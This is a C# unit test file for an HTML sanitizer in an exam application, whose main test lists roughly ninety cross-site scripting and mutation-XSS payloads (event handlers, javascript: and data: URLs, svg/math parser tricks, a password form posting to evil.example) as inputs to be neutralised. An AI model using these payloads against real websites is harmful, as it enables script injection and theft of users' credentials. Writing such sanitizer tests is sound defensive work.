using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using Examlet.Questions;

namespace Examlet.Tests.Exams;

/// <summary>Nothing of an author's runs, loads from a page of its own, or dresses up as the page.</summary>
public sealed class AuthorHtmlTests
{
    [Theory]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("<img src='x'onerror='alert(1)'>")]
    [InlineData("<img/src='x'/onerror=alert(1)>")]
    [InlineData("<IMG SRC=x OnErRoR=alert(1)>")]
    [InlineData("<b onclick=alert(1)>x</b>")]
    [InlineData("<p onmouseover\n=\nalert(1)>x</p>")]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<scr<script>ipt>alert(1)</script>")]
    [InlineData("<svg onload=alert(1)>")]
    [InlineData("<svg><script>alert(1)</script></svg>")]
    [InlineData("<svg><style><img src=x onerror=alert(1)></style></svg>")]
    [InlineData("<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>")]
    [InlineData("<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>")]
    [InlineData("<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>")]
    [InlineData(
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>"
    )]
    [InlineData("<math><mi//xlink:href='data:x,<script>alert(1)</script>'>")]
    [InlineData("<math href='javascript:alert(1)'>x</math>")]
    [InlineData("<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>")]
    [InlineData("<template><script>alert(1)</script></template>")]
    [InlineData("<template><template><img src=x onerror=alert(1)></template></template>")]
    [InlineData("<template shadowrootmode=open><img src=x onerror=alert(1)></template>")]
    [InlineData("<iframe srcdoc='<script>alert(1)</script>'></iframe>")]
    [InlineData("<iframe src=javascript:alert(1)></iframe>")]
    [InlineData("<object data=javascript:alert(1)></object>")]
    [InlineData("<embed src=javascript:alert(1)>")]
    [InlineData("<noscript><p title='</noscript><img src=x onerror=alert(1)>'>")]
    [InlineData("<noembed><p title='</noembed><img src=x onerror=alert(1)>'>")]
    [InlineData("<xmp><p title='</xmp><img src=x onerror=alert(1)>'>")]
    [InlineData("<listing>&lt;img onerror=\"alert(1)\" src=x&gt;</listing>")]
    [InlineData("<plaintext><img src=x onerror=alert(1)>")]
    [InlineData("<textarea><p title='</textarea><img src=x onerror=alert(1)>'>")]
    [InlineData("<title><p title='</title><img src=x onerror=alert(1)>'>")]
    [InlineData(
        "<select><template><style><!--</style><a rel='--></style></template></select><img id=x src onerror=alert(1)>'>"
    )]
    [InlineData("<!--><img src=x onerror=alert(1)>-->")]
    [InlineData("<!-- --!><img src=x onerror=alert(1)>-->")]
    [InlineData("<!-<img src=x onerror=alert(1)>")]
    [InlineData("<?xml version='1.0'?><img src=x onerror=alert(1)>")]
    [InlineData("<![CDATA[<img src=x onerror=alert(1)>]]>")]
    [InlineData("<p title=\"`<img src=x onerror=alert(1)>`\">x</p>")]
    [InlineData("<a href=javascript:alert(1)>x</a>")]
    [InlineData("<a href=' javascript:alert(1)'>x</a>")]
    [InlineData("<a href='java\tscript:alert(1)'>x</a>")]
    [InlineData("<a href='java&#10;script:alert(1)'>x</a>")]
    [InlineData("<a href='&#1;javascript:alert(1)'>x</a>")]
    [InlineData("<a href='&#x6A;avascript:alert(1)'>x</a>")]
    [InlineData("<a href=JaVaScRiPt:alert(1)>x</a>")]
    [InlineData("<a href=vbscript:msgbox(1)>x</a>")]
    [InlineData("<a href='data:text/html,<script>alert(1)</script>'>x</a>")]
    [InlineData("<a href='data:image/svg+xml,<svg onload=alert(1)>'>x</a>")]
    [InlineData("<a href='blob:https://example.com/1'>x</a>")]
    [InlineData("<a href='file:///etc/passwd'>x</a>")]
    [InlineData("<img src='data:text/html,<script>alert(1)</script>'>")]
    [InlineData("<img src='data:image/svg,x'>")]
    [InlineData("<img src=' data:text/html;base64,x'>")]
    [InlineData("<img src='javascript:alert(1)'>")]
    [InlineData("<img src='mailto:a@example.com'>")]
    [InlineData("<img srcset='javascript:alert(1) 1x'>")]
    [InlineData("<p style='background:url(javascript:alert(1))'>x</p>")]
    [InlineData("<p style='position:fixed;inset:0'>x</p>")]
    [InlineData("<style>@import 'https://evil.example/x.css'</style>")]
    [InlineData("<link rel=stylesheet href=https://evil.example/x.css>")]
    [InlineData("<form action=https://evil.example><input name=password><button>x</button></form>")]
    [InlineData("<isindex action=javascript:alert(1)>")]
    [InlineData("<a id=examlet name=submit class=primary>x</a>")]
    [InlineData("<img name=getElementById id=cookie>")]
    [InlineData("<base href=https://evil.example/>")]
    [InlineData("<meta http-equiv=refresh content='0;url=https://evil.example'>")]
    [InlineData("<body onload=alert(1)><p>x</p></body>")]
    [InlineData("<html onmouseover=alert(1)><head><script>alert(1)</script></head>")]
    [InlineData("<video src=x onerror=alert(1)></video>")]
    [InlineData("<audio autoplay src=https://evil.example/x.mp3></audio>")]
    [InlineData("<details open ontoggle=alert(1)>x</details>")]
    [InlineData("<marquee onstart=alert(1)>x</marquee>")]
    [InlineData("<inline-math onclick=alert(1)><img src=x onerror=alert(1)>x</inline-math>")]
    [InlineData("<inline-math><script>alert(1)</script></inline-math>")]
    [InlineData("<table><td background=javascript:alert(1)>x</table>")]
    [InlineData("<a href=https://example.com ping=https://evil.example>x</a>")]
    [InlineData("<a href=https://example.com target=_top rel=opener>x</a>")]
    [InlineData("<x-widget onfocus=alert(1) tabindex=1 autofocus>x</x-widget>")]
    [InlineData("<p contenteditable tabindex=1 accesskey=x is=x-widget slot=x part=x>x</p>")]
    [InlineData("<img src=x onerror=alert(1)")]
    [InlineData("<<b>img src=x onerror=alert(1)>")]
    [InlineData("<p/onclick=alert(1)//>x")]
    [InlineData("</p onclick=alert(1)><b")]
    [InlineData("<a href=\"javascript:alert(1)\" href=\"https://example.com\">x</a>")]
    public void Nothing_harmful_is_left_of(string html) => Harm(AuthorHtml.Sanitize(html)).ShouldBeEmpty();

    [Theory]
    [InlineData("<template>", "</template>")]
    [InlineData("<div>", "</div>")]
    [InlineData("<b>", "")]
    [InlineData("<svg>", "</svg>")]
    [InlineData("<table><tr><td>", "")]
    [InlineData("<p><b>", "")]
    [InlineData("<li><ul>", "")]
    [InlineData("<div></q>", "")]
    [InlineData("<b></q>", "")]
    [InlineData("<div><!--</div>-->", "")]
    [InlineData("<div><br title='</div>'>", "")]
    [InlineData("<template><div></q></q>", "")]
    public void A_text_nested_without_end_gives_nothing(string open, string close) =>
        AuthorHtml
            .Sanitize(
                string.Concat(Enumerable.Repeat(open, 20_000)) + "x" + string.Concat(Enumerable.Repeat(close, 20_000))
            )
            .Length.ShouldBe(0);

    [Fact]
    public void Comments_are_dropped() => AuthorHtml.Sanitize("a<!-- b -->c").ShouldBe("ac");

    /// <summary>Every element and attribute that is not on a list written down here a second time.</summary>
    private static List<string> Harm(string html)
    {
        var body = new HtmlParser().ParseDocument($"<!doctype html><body>{html}").Body!;
        return
        [
            .. body.Descendants<IElement>()
                .Where(element =>
                    !SafeTags.Contains(element.LocalName) || element.NamespaceUri != "http://www.w3.org/1999/xhtml"
                )
                .Select(element => $"<{element.LocalName}>"),
            .. body.Descendants<IElement>()
                .SelectMany(element => element.Attributes)
                .Where(attribute => !SafeAttributes.Contains(attribute.Name))
                .Select(attribute => attribute.Name),
            .. body.Descendants<IElement>()
                .SelectMany(element => Addresses(element))
                .Where(address => !IsSafe(address)),
            .. body.QuerySelectorAll("a[href]")
                .Where(a => a.GetAttribute("target") != "_blank" || a.GetAttribute("rel") != "noopener noreferrer")
                .Select(_ => "opener"),
            .. body.QuerySelectorAll("inline-math > *").Select(element => element.LocalName),
        ];
    }

    private static IEnumerable<string> Addresses(IElement element) =>
        new[] { "href", "src" }
            .Where(element.HasAttribute)
            .Select(name => $"{element.LocalName} {element.GetAttribute(name)}");

    private static bool IsSafe(string address) =>
        address.StartsWith("a https:", StringComparison.Ordinal)
        || address.StartsWith("img https:", StringComparison.Ordinal)
        || address.StartsWith("img data:image/png", StringComparison.Ordinal)
        || address == "img x"
        || address == "img "
        || address == "img 1";

    private static readonly HashSet<string> SafeTags = new(StringComparer.Ordinal)
    {
        "a",
        "b",
        "p",
        "img",
        "table",
        "tbody",
        "thead",
        "tr",
        "td",
        "th",
        "ul",
        "ol",
        "li",
        "div",
        "span",
        "hr",
        "inline-math",
    };

    private static readonly HashSet<string> SafeAttributes = new(StringComparer.Ordinal)
    {
        "href",
        "src",
        "alt",
        "title",
        "rel",
        "target",
    };

    [Theory]
    [InlineData("words &amp; signs", true)]
    [InlineData("<p>one</p><ul><li>two<br></li></ul>", true)]
    [InlineData("<inline-math>x</inline-math>", true)]
    [InlineData("<p dir=\"rtl\">one</p>", false)]
    [InlineData("<img>", false)]
    [InlineData("<P>one</P>", false)]
    [InlineData("<br/>", false)]
    [InlineData("<script>one</script>", false)]
    [InlineData("<>", false)]
    [InlineData("one <", false)]
    [InlineData("<p", false)]
    public void Plain_HTML_is_words_and_allowed_elements_without_attributes(string html, bool isPlain) =>
        AuthorHtml.IsPlain(html).ShouldBe(isPlain);
}
